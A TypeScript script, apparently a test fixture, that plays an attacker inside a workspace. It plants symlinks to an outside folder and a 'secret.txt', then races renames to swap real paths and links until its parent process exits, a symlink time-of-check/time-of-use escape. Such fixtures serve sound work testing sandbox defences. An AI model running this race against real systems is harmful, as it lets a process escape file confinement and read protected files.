import fs from 'node:fs'
import { join } from 'node:path'

/**
 * An attacker with a shell in the workspace: swaps a folder and a file for links to the outside and back, as fast as
 * it can, until its parent goes away. Everything is a rename, so that the name is missing as rarely as possible.
 * Arguments: the workspace, and the folder outside.
 */
const [root = '', outside = ''] = process.argv.slice(2)
if (root === '' || outside === '') throw new Error('usage: path-swapper WORKSPACE OUTSIDE')

let junkCount = 0

/** The victim writes here too: what it has just made may be in the way of a step. The next round tries again. */
function move(from: string, to: string): boolean {
  try {
    fs.renameSync(from, to)
    return true
  } catch {
    return false
  }
}

function swap(name: string): void {
  const real = join(root, name)
  if (!move(real, `${real}.real`)) move(real, `${real}.junk${junkCount++}`)
  move(`${real}.link`, real)
  move(real, `${real}.link`)
  move(`${real}.real`, real)
}

fs.symlinkSync(outside, join(root, 'folder.link'))
fs.symlinkSync(join(outside, 'secret.txt'), join(root, 'file.txt.link'))
process.stdout.write('ready\n')
const parent = process.ppid
while (process.ppid === parent) {
  for (let round = 0; round < 1_000; round++) {
    swap('folder')
    swap('file.txt')
  }
}
